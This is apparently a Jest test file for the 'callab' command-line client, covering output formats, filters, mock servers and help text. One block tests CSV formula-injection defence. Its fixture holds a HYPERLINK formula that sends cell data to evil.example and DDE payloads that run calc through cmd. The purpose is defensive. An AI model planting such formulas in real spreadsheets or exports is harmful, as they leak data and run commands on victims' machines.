/**
 * `callab` against the Prism mock and the fake API, through every command and format: in-process
 * through `main`, and the built bin where only a real process can show it.
 */
import { parse } from 'csv-parse/sync';
import { version } from '../../package.json';
import { Callab, type Contact } from '..';
import {
  defaultFixtures,
  type FakeServer,
  type MockServer,
  startFakeServer,
  startMockServer,
} from '../testing';
import { API_COMMANDS, type ApiCommand, COMMANDS } from './commands';
import { allColumns, fieldsOf } from './fields';
import { cellText, FORMATS, type Format, type Row, TABLE_CELL_MAX } from './formats';
import { finished, requireBuiltCli, runBuiltCli, runCli, spawnCli } from './test-support';

let mock: MockServer;
let fake: FakeServer;
beforeAll(async () => {
  requireBuiltCli();
  [mock, fake] = await Promise.all([startMockServer(), startFakeServer()]);
});
afterAll(() => Promise.all([mock?.close(), fake?.close()]));

/** What the SDK itself returns for the command: the CLI must print exactly these objects. */
function expectedRows(command: ApiCommand, baseUrl: string, apiKey: string) {
  return command.prepare(
    {},
    command.exampleArguments,
  )(new Callab({ apiKey, baseUrl, maxRetries: 0 }));
}

/** Parses the CLI's output in `format` and checks it against `rows`. */
function expectOutput(format: Format, stdout: string, rows: readonly Row[], command: ApiCommand) {
  if (format === 'json') {
    expect(JSON.parse(stdout)).toEqual(rows);
  } else if (format === 'ndjson') {
    expect(stdout.endsWith('\n')).toBe(true);
    expect(
      stdout
        .trimEnd()
        .split('\n')
        .filter((line) => line !== '')
        .map((line) => JSON.parse(line)),
    ).toEqual(rows);
  } else if (format === 'csv') {
    const columns = allColumns(fieldsOf(command.schema), rows);
    expect(parse(stdout)).toEqual([
      columns,
      ...rows.map((row) => columns.map((column) => cellText(row[column]))),
    ]);
  } else {
    const [header, rule, ...lines] = stdout.trimEnd().split('\n');
    expect(header?.split(/ {2,}/)).toEqual(command.tableColumns);
    expect(rule).toMatch(/^-+( {2}-+)*$/);
    expect(lines).toHaveLength(rows.length);
    const first = command.tableColumns[0] ?? '';
    const shown = (row: Row | undefined) => cellText(row?.[first]).slice(0, TABLE_CELL_MAX - 1);
    for (const [i, line] of lines.entries()) expect(line.startsWith(shown(rows[i]))).toBe(true);
  }
}

const matrix = API_COMMANDS.flatMap((command) =>
  FORMATS.map((format) => [command.words.join(' '), format, command] as const),
);

describe.each([
  [
    'the Prism mock, through --base-url and --api-key',
    (): string => mock.url,
    (): string => 'any-key',
    'flags',
  ],
  [
    'the fake server, through CALLAB_BASE_URL and CALLAB_API_KEY',
    (): string => fake.url,
    (): string => fake.apiKey,
    'env',
  ],
] as const)('against %s', (_name, url, key, via) => {
  it.each(matrix)(
    '%s --format %s prints what the API returned',
    async (_words, format, command) => {
      const rows = await expectedRows(command, url(), key());
      expect(rows.length).toBeGreaterThan(0);
      const args = [...command.words, ...command.exampleArguments, '--format', format];
      const result =
        via === 'flags'
          ? await runCli([...args, '--base-url', url(), '--api-key', key()])
          : await runCli(args, { CALLAB_BASE_URL: url(), CALLAB_API_KEY: key() });
      expect(result).toMatchObject({ code: 0, stderr: '' });
      expectOutput(format, result.stdout, rows, command);
    },
  );
});

describe('against the fake server', () => {
  const env = () => ({ CALLAB_BASE_URL: fake.url, CALLAB_API_KEY: fake.apiKey });
  const contacts = async (...args: string[]) => {
    const result = await runCli(['contacts', 'query', '--format', 'json', ...args], env());
    expect(result).toMatchObject({ code: 0, stderr: '' });
    return JSON.parse(result.stdout) as Row[];
  };
  const all = defaultFixtures.contacts;

  it('filters contacts on the server: --tag vip gives only the vip contacts', async () => {
    const vip = all.filter((c) => c.tag_name === 'vip');
    expect(vip.length).toBeGreaterThan(0);
    expect(vip.length).toBeLessThan(all.length);
    expect(await contacts('--tag', 'vip')).toEqual(vip);
  });

  it('matches any value of a repeated flag, and every flag given', async () => {
    const expected = all.filter(
      (c) =>
        ['vip', 'renewal'].includes(c.tag_name) &&
        ['no-answer', 'busy'].includes(c.last_call_status ?? ''),
    );
    expect(expected.length).toBeGreaterThan(1);
    const args = ['--tag', 'vip', '--tag', 'renewal', '--last-call-status', 'no-answer'];
    expect(await contacts(...args, '--last-call-status', 'busy')).toEqual(expected);
    const customersFromImport = all.filter(
      (c) => c.category_name === 'customer' && c.source_name === 'import',
    );
    expect(await contacts('--category', 'customer', '--source', 'import')).toEqual(
      customersFromImport,
    );
  });

  it('reads --tag vip,renewal as --tag vip --tag renewal', async () => {
    const either = all.filter((c) => ['vip', 'renewal'].includes(c.tag_name));
    expect(either.length).toBeGreaterThan(all.filter((c) => c.tag_name === 'vip').length);
    expect(await contacts('--tag=vip,renewal')).toEqual(either);
    expect(await contacts('--tag', 'vip, renewal')).toEqual(either);
  });

  it('passes --limit to the campaign list', async () => {
    expect(defaultFixtures.campaigns.length).toBeGreaterThan(1);
    const result = await runCli(['campaigns', 'list', '--limit', '1'], env());
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toEqual(defaultFixtures.campaigns.slice(0, 1));
  });

  it('prints JSON when stdout is not a terminal and no --format is given', async () => {
    const result = await runCli(['phone-numbers', 'list'], env());
    expect(JSON.parse(result.stdout)).toEqual(defaultFixtures.phoneNumbers);
  });

  it.each(FORMATS)('--fields picks and orders the columns in %s', async (format) => {
    const result = await runCli(
      ['contacts', 'query', '--tag', 'vip', '--format', format, '--fields', 'lastname,id'],
      env(),
    );
    expect(result).toMatchObject({ code: 0, stderr: '' });
    const picked = all
      .filter((c) => c.tag_name === 'vip')
      .map((c) => ({ lastname: c.lastname, id: c.id }));
    if (format === 'json') {
      const rows = JSON.parse(result.stdout) as Row[];
      expect(rows).toEqual(picked);
      expect(rows.map(Object.keys)).toEqual(picked.map(() => ['lastname', 'id']));
    } else if (format === 'ndjson') {
      expect(result.stdout).toBe(picked.map((row) => `${JSON.stringify(row)}\n`).join(''));
    } else if (format === 'csv') {
      expect(parse(result.stdout)).toEqual([
        ['lastname', 'id'],
        ...picked.map((row) => [row.lastname, row.id]),
      ]);
    } else {
      const lines = result.stdout.trimEnd().split('\n');
      expect(lines[0]).toMatch(/^lastname +id$/);
      expect(lines.slice(2).map((line) => line.split(/ {2,}/))).toEqual(
        picked.map((row) => [row.lastname, row.id]),
      );
    }
  });

  it('writes CSV that a CSV parser reads back to the JSON output, for awkward values', async () => {
    const awkward: Contact = {
      ...(all[0] as Contact),
      id: '0f0e0d0c-0b0a-4908-8706-050403020100',
      firstname: 'Zoë',
      lastname: "O'Brien, Jr.",
      notes: 'Said "call me back",\r\nthen hung up',
      metadata: { nested: { list: [1, 'two, three'] }, quote: '"' },
      last_call_status: null,
    };
    const server = await startFakeServer({ contacts: [awkward, ...all] });
    try {
      const env = { CALLAB_BASE_URL: server.url, CALLAB_API_KEY: server.apiKey };
      const [asCsv, asJson] = await Promise.all(
        ['csv', 'json'].map((format) => runCli(['contacts', 'query', '--format', format], env)),
      );
      const rows = JSON.parse(asJson?.stdout ?? '') as Row[];
      const [header, ...records] = parse(asCsv?.stdout ?? '') as string[][];
      expect(header).toEqual(fieldsOf('Contact'));
      expect(records).toEqual(
        rows.map((row) => (header ?? []).map((column) => cellText(row[column]))),
      );
      expect(records[0]?.[(header ?? []).indexOf('notes')]).toBe(awkward.notes);
    } finally {
      await server.close();
    }
  });
});

describe('CSV of third-party text that a spreadsheet would run as a formula', () => {
  const hostile: Contact = {
    ...(defaultFixtures.contacts[0] as Contact),
    firstname: '=HYPERLINK("http://evil.example/?leak="&A1,"Ada")',
    lastname: "@SUM(1+1)*cmd|' /C calc'!A0",
    notes: "-2+3+cmd|' /C calc'!A0",
  };
  const fields = 'firstname,lastname,notes,phone_number,number_country_code';
  const csvOf = async (...extra: string[]) => {
    const server = await startFakeServer({ contacts: [hostile] });
    try {
      const args = ['contacts', 'query', '--format', 'csv', '--fields', fields, ...extra];
      const result = await runCli(args, {
        CALLAB_BASE_URL: server.url,
        CALLAB_API_KEY: server.apiKey,
      });
      expect(result).toMatchObject({ code: 0, stderr: '' });
      return (parse(result.stdout) as string[][])[1];
    } finally {
      await server.close();
    }
  };

  it('is neutralised with a leading quote; phone numbers stay as they are', async () => {
    expect(await csvOf()).toEqual([
      `'${hostile.firstname}`,
      `'${hostile.lastname}`,
      `'${hostile.notes}`,
      hostile.phone_number,
      hostile.number_country_code,
    ]);
    expect(hostile.phone_number).toMatch(/^\+\d+$/);
  });

  it('is written as it is with --csv-raw-formulas', async () => {
    expect(await csvOf('--csv-raw-formulas')).toEqual(
      fields.split(',').map((field) => hostile[field as keyof Contact]),
    );
  });
});

describe('--mock: the fake API in-process', () => {
  it.each(API_COMMANDS.map((command) => [command.words.join(' '), command] as const))(
    '%s --mock needs no key and prints what the fake server returns',
    async (_words, command) => {
      const result = await runCli([...command.words, '--mock', '--format', 'json']);
      expect(result).toMatchObject({ code: 0, stderr: '' });
      expect(JSON.parse(result.stdout)).toEqual(await expectedRows(command, fake.url, fake.apiKey));
    },
  );

  it('applies the filters and --limit', async () => {
    const json = async (...args: string[]) => {
      const result = await runCli([...args, '--mock', '--format', 'json']);
      expect(result).toMatchObject({ code: 0, stderr: '' });
      return JSON.parse(result.stdout);
    };
    expect(await json('contacts', 'query', '--tag', 'nonexistent')).toEqual([]);
    expect(await json('contacts', 'query', '--tag', 'vip')).toEqual(
      defaultFixtures.contacts.filter((c) => c.tag_name === 'vip'),
    );
    expect(await json('campaigns', 'list', '--limit', '1')).toEqual(
      defaultFixtures.campaigns.slice(0, 1),
    );
  });

  it('demo shows every resource as a table under a heading and exits 0', async () => {
    const result = await runCli(['demo']);
    expect(result).toMatchObject({ code: 0, stderr: '' });
    for (const command of API_COMMANDS.filter((c) => c.operation.retrySafe)) {
      const words = [...command.words, ...command.exampleArguments].join(' ');
      expect(result.stdout).toContain(`\n${command.title} (callab ${words} --mock)\n`);
      expect(result.stdout).toMatch(new RegExp(`\n${command.tableColumns.join(' +')}\n`));
    }
    // Katherine is a fixture of the fake, not a record of the spec's examples.
    expect(result.stdout).toContain('Katherine ');
  });
});

describe('the built bin (dist/cli/index.cjs)', () => {
  it('prints the version', async () => {
    expect(await runBuiltCli(['--version'])).toEqual({
      code: 0,
      stdout: `${version}\n`,
      stderr: '',
    });
  });

  it('queries the API and exits 0, printing what the in-process run prints', async () => {
    const args = ['contacts', 'query', '--tag', 'vip', '--format', 'csv'];
    const env = { CALLAB_BASE_URL: fake.url, CALLAB_API_KEY: fake.apiKey };
    const built = await runBuiltCli(args, env);
    expect(built).toMatchObject({ code: 0, stderr: '' });
    expect(parse(built.stdout)).toHaveLength(
      1 + defaultFixtures.contacts.filter((c) => c.tag_name === 'vip').length,
    );
    expect(built).toEqual(await runCli(args, env));
  });

  it('exits with the failure code of a usage error', async () => {
    const result = await runBuiltCli(['contacts', 'query', '--colour']);
    expect(result).toMatchObject({ code: 2, stdout: '' });
    expect(result.stderr).toMatch(/^callab: unknown option '--colour'/);
  });
});

describe('callab mock: Prism on a port', () => {
  it('serves the API until SIGTERM', async () => {
    const child = spawnCli(['mock', '--port', '0']);
    const done = finished(child);
    const url = await new Promise<string>((resolve) => {
      child.stdout?.on('data', (chunk: Buffer) => {
        const found = /http:\/\/127\.0\.0\.1:\d+/.exec(chunk.toString());
        if (found) resolve(found[0]);
      });
    });
    const response = await fetch(`${url}/phone_number`, { headers: { authorization: 'Bearer k' } });
    expect(response.status).toBe(200);
    expect((await response.json()).status).toBe('ok');
    child.kill('SIGTERM');
    expect(await done).toMatchObject({ code: 0, stderr: '' });
  });
});

describe('help and version', () => {
  it.each(COMMANDS.map((command) => [command.words.join(' ')]))(
    'callab %s --help describes the command and exits 0',
    async (words) => {
      const result = await runCli([...words.split(' '), '--help']);
      expect(result).toMatchObject({ code: 0, stderr: '' });
      expect(result.stdout).toContain(`Usage: callab ${words} `);
      expect(result.stdout).toContain('--help');
    },
  );

  it('the overview lists every command, the environment and the exit codes', async () => {
    const result = await runCli(['--help']);
    expect(result.code).toBe(0);
    for (const command of COMMANDS) expect(result.stdout).toContain(command.words.join(' '));
    expect(result.stdout).toContain('CALLAB_API_KEY');
    expect(result.stdout).toMatch(
      /Exit codes:\n {2}0 +success\n {2}1 .*\n {2}2 .*\n {2}3 .*\n {2}4 .*\n {2}70 +internal error/,
    );
  });

  it('a command group lists its subcommands', async () => {
    const result = await runCli(['campaigns', '--help']);
    expect(result).toMatchObject({ code: 0, stderr: '' });
    expect(result.stdout).toContain('Usage: callab campaigns <subcommand>');
    expect(result.stdout).toContain('  list ');
  });

  it('--version prints the package version', async () => {
    expect(await runCli(['--version'])).toEqual({ code: 0, stdout: `${version}\n`, stderr: '' });
  });
});
